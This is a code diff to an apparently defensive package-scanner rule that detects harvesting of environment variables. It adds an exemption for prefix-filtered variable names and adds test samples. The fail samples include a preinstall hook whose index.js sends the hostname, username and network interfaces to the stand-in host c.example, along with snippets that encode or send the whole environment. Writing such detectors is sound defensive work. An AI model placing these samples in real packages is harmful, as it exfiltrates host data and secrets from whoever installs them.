@@ -10,7 +10,8 @@ crate::declare_rule! {
     /// at once. Diagnostics tools print it locally (`medium`); with network access in the same
     /// file or at install time it is exfiltration (`high`). The whole environment put into a
     /// request to a fixed URL, directly or through a local function that posts its argument,
-    /// is `critical`.
+    /// is `critical`. Names filtered at once to a fixed prefix (`/^debug_/i.test(k)`,
+    /// `k.startsWith('CARGO_')`) are one family of settings, not the whole environment.
     id: "env-harvest",
     category: Data,
     severity: Medium,
@@ -24,11 +25,16 @@ crate::declare_rule! {
            "const data = Buffer.from(JSON.stringify(process.env)).toString('base64')",
            "const e = process.env; for (const k in e) out[k] = e[k]",
            "Object.entries(process.env).forEach(([k, v]) => send(k, v))",
+           "const https = require('https'); const all = Object.keys(process.env).filter((k) => k !== 'PATH'); https.get(u)",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node index.js\"}}\n=== index.js\nconst os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), p: os.platform() }); https.get('https://c.example/?d=' + d)"],
     pass: ["spawn('node', ['build.js'], { env: process.env, stdio: 'inherit' }); console.log(JSON.stringify({ ok: true }))",
            "const https = require('https'); function run(cmd) { return execa(cmd, [], { env: process.env }) } https.get(u, cb); run('ls')",
            "const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })",
-           "const https = require('https'); function ship(d) { return fetch(LOGS, { method: 'POST', body: d }) } ship(process.env.HOME); fetch('https://x.example/', { body: process.env.LANG })"],
+           "const https = require('https'); function ship(d) { return fetch(LOGS, { method: 'POST', body: d }) } ship(process.env.HOME); fetch('https://x.example/', { body: process.env.LANG })",
+           // the debug module's inspectOpts (bundled by vitepress 1.6.4, wrangler 4.164.0)
+           "const https = require('https'); exports.inspectOpts = Object.keys(process.env).filter(key => {\n  return /^debug_/i.test(key);\n}).reduce((obj, key) => obj, {})",
+           // @napi-rs/cli 3.10.12
+           "const https = require('https'); const p = Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith(\"CARGO_PROFILE_\")))"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -53,6 +59,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
                             | "<for-in>"
                             | "Object.getOwnPropertyNames"
                     ) && c.arg_path(0) == Some("process.env")
+                        && !prefix_pick(&f.text, c.off)
                 })
                 .map(|c| (c.off, c.path.clone())),
             None => find_text(f, text).into_iter().next(),
@@ -141,6 +148,26 @@ fn check(pkg: &Package, out: &mut Emitter) {
             format!("collects every environment variable ({what}){tail}"),
         );
     }
+}
+
+/// Whether the environment's names listed at `off` are narrowed at once to a fixed prefix:
+/// `Object.keys(process.env).filter((k) => /^debug_/i.test(k))` (the debug module's
+/// `inspectOpts`, bundled by vitepress, wrangler, @codspeed/core) or
+/// `.filter(([n]) => n.startsWith("CARGO_PROFILE_"))` (@napi-rs/cli 3.10.12): one family of
+/// settings, not every secret.
+fn prefix_pick(text: &str, off: u32) -> bool {
+    let at = off as usize;
+    let mut end = (at + 300).min(text.len());
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    let Some(snippet) = text.get(at..end) else {
+        return false;
+    };
+    crate::regex!(
+        r#"^Object\.(keys|entries|values)\(\s*process\.env\s*\)\s*\.filter\([^{;]{0,80}?(\{\s*return\s+)?(/\^\w[^/\n]*/[a-z]*\.test\(|[\w$.]+\.startsWith\(\s*['"`]\w)"#
+    )
+    .is_match(snippet)
 }
 
 /// Where the whole `process.env` is put into a request's arguments, directly or through a local
